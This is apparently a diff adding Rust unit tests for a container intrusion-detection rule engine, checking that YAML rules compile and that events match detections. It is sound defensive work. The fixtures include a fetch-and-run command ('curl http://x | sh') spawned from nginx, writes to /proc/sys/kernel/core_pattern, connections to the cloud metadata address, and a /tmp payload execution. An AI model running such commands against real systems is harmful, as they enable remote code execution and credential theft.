@@ -1,0 +1,234 @@
+//! Unit tests of loading, compiling and matching rules.
+
+use time::OffsetDateTime;
+
+use super::*;
+use crate::event::{
+    Ancestor, Body, Connect, Container, Event, Exec, FileActivity, FileOperation, Pod,
+    ProcessFields,
+};
+
+fn event(body: Body) -> Event {
+    Event {
+        time: OffsetDateTime::UNIX_EPOCH,
+        ktime_ns: 0,
+        process: ProcessFields::default(),
+        cgroup_id: Some(1),
+        container: Some(Container {
+            id: "c1".into(),
+            runtime: "containerd".into(),
+            name: None,
+            image: Some("docker.io/library/nginx:1.27".into()),
+        }),
+        pod: Some(Pod {
+            uid: "p1".into(),
+            namespace: Some("web".into()),
+            ..Pod::default()
+        }),
+        ancestry: Vec::new(),
+        body,
+    }
+}
+
+fn exec(filename: &str, argv: &[&str], parents: &[&str]) -> Event {
+    let mut e = event(Body::Exec(Exec {
+        filename: filename.into(),
+        argv: argv.iter().map(|s| (*s).to_owned()).collect(),
+        argv_truncated: false,
+        filename_truncated: false,
+    }));
+    e.ancestry = parents
+        .iter()
+        .map(|exe| Ancestor {
+            pid: 1,
+            exe: (*exe).into(),
+        })
+        .collect();
+    e
+}
+
+fn open_write(path: &str) -> Event {
+    event(Body::File(FileActivity {
+        op: FileOperation::Open,
+        path: path.into(),
+        flags: 0o1101,
+        write: true,
+        sensitive: true,
+        read_sensitive: false,
+        relative: false,
+        dirfd: None,
+        path_truncated: false,
+        target: None,
+        suppressed: 0,
+    }))
+}
+
+fn ids(set: &RuleSet, event: &Event) -> Vec<String> {
+    let facts = Facts {
+        event,
+        drift: false,
+    };
+    set.matching(&facts).map(|r| r.meta().id.clone()).collect()
+}
+
+fn one(yaml: &str) -> Result<RuleSet, RulesError> {
+    RuleSet::from_sources(&[("r.yaml".into(), yaml.into())])
+}
+
+#[test]
+fn default_rules_compile() {
+    let set = RuleSet::defaults().unwrap();
+    assert!(set.rules().len() >= 15);
+}
+
+#[test]
+fn typo_in_a_field_names_file_line_and_column() {
+    let yaml = "rules:\n  - id: x\n    description: d\n    mitre: {tactic: Execution, technique: T1059}\n    severity: low\n    weight: 1\n    when:\n      kind: exec\n      exee: {exact: /bin/sh}\n";
+    let err = one(yaml).unwrap_err().to_string();
+    assert!(err.contains("r.yaml"), "{err}");
+    assert!(err.contains("unknown field `exee`"), "{err}");
+    assert!(err.contains("line 9 column 7"), "{err}");
+}
+
+#[test]
+fn semantic_problems_are_all_reported_with_their_path() {
+    let yaml = r#"
+rules:
+  - id: bad
+    description: d
+    mitre: {tactic: Exfil, technique: "1059"}
+    severity: low
+    weight: -1
+    when:
+      kind: [exec, fork]
+      exe: {basename: "@nope", glob: "[x"}
+      daddr: [10.0.0.0/33]
+      use: [missing]
+"#;
+    let Err(RulesError::Invalid { problems }) = one(yaml) else {
+        panic!("expected problems");
+    };
+    let at: Vec<_> = problems.iter().map(|p| p.at.as_str()).collect();
+    for want in [
+        "rules[0].mitre.tactic",
+        "rules[0].mitre.technique",
+        "rules[0].weight",
+        "rules[0].when.kind",
+        "rules[0].when.exe.basename",
+        "rules[0].when.exe.glob",
+        "rules[0].when.daddr",
+        "rules[0].when.use[0]",
+    ] {
+        assert!(at.contains(&want), "{want} missing from {at:?}");
+    }
+}
+
+#[test]
+fn shell_from_web_server_matches_and_entrypoint_script_does_not() {
+    let set = RuleSet::defaults().unwrap();
+    let shell = exec(
+        "/bin/sh",
+        &["sh", "-c", "curl http://x | sh"],
+        &["/usr/sbin/nginx"],
+    );
+    let got = ids(&set, &shell);
+    assert!(
+        got.contains(&"shell-spawned-by-server".to_owned()),
+        "{got:?}"
+    );
+    assert!(got.contains(&"download-and-execute".to_owned()), "{got:?}");
+    let entry = exec(
+        "/docker-entrypoint.sh",
+        &["/docker-entrypoint.sh", "nginx"],
+        &["/usr/bin/containerd-shim-runc-v2"],
+    );
+    assert!(ids(&set, &entry).is_empty());
+    let dropped = exec("/tmp/x.sh", &["/tmp/x.sh"], &["/bin/sh"]);
+    assert_eq!(ids(&set, &dropped), ["script-executed"]);
+}
+
+#[test]
+fn host_events_do_not_match_container_rules() {
+    let set = RuleSet::defaults().unwrap();
+    let mut shell = exec("/usr/bin/curl", &["curl", "x"], &["/bin/bash"]);
+    assert_eq!(ids(&set, &shell), ["transfer-tool"]);
+    shell.container = None;
+    shell.pod = None;
+    assert!(ids(&set, &shell).is_empty());
+}
+
+#[test]
+fn writes_below_proc_and_exceptions() {
+    let set = RuleSet::defaults().unwrap();
+    assert_eq!(
+        ids(&set, &open_write("/proc/sys/kernel/core_pattern")),
+        ["write-below-proc"]
+    );
+    assert!(ids(&set, &open_write("/proc/self/oom_score_adj")).is_empty());
+    assert!(ids(&set, &open_write("/dev/termination-log")).is_empty());
+    assert_eq!(ids(&set, &open_write("/usr/bin/ls")), ["write-binary-dir"]);
+    assert!(ids(&set, &open_write("/usr/binx")).is_empty());
+}
+
+#[test]
+fn connections_to_the_api_and_metadata() {
+    let set = RuleSet::defaults().unwrap();
+    let connect = |addr: &str, port| {
+        event(Body::Connect(Connect {
+            family: "ipv4".into(),
+            protocol: "tcp".into(),
+            daddr: addr.parse().unwrap(),
+            dport: port,
+        }))
+    };
+    assert_eq!(
+        ids(&set, &connect("10.96.0.1", 443)),
+        ["kubernetes-api-contacted"]
+    );
+    assert!(ids(&set, &connect("10.96.0.10", 53)).is_empty());
+    assert_eq!(
+        ids(&set, &connect("169.254.169.254", 80)),
+        ["cloud-metadata-contacted"]
+    );
+    let mut system = connect("10.96.0.1", 443);
+    system.pod.as_mut().unwrap().namespace = Some("kube-system".into());
+    assert!(ids(&set, &system).is_empty());
+}
+
+#[test]
+fn labels_namespace_and_image_conditions() {
+    let yaml = r#"
+rules:
+  - id: labelled
+    description: d
+    mitre: {tactic: Execution, technique: T1059}
+    severity: low
+    weight: 1
+    when:
+      kind: exec
+      namespace: web
+      labels: {app: [nginx, "*"]}
+      image: {glob: "docker.io/library/nginx:*"}
+"#;
+    let set = one(yaml).unwrap();
+    let mut e = exec("/bin/true", &["true"], &[]);
+    assert!(ids(&set, &e).is_empty(), "label missing");
+    e.pod
+        .as_mut()
+        .unwrap()
+        .labels
+        .insert("app".into(), "other".into());
+    assert_eq!(ids(&set, &e), ["labelled"]);
+}
+
+#[test]
+fn drift_is_a_fact_from_the_engine() {
+    let set = RuleSet::defaults().unwrap();
+    let e = exec("/tmp/payload", &["/tmp/payload"], &["/bin/sh"]);
+    let facts = Facts {
+        event: &e,
+        drift: true,
+    };
+    let got: Vec<_> = set.matching(&facts).map(|r| r.meta().id.as_str()).collect();
+    assert_eq!(got, ["drift-executed"]);
+}
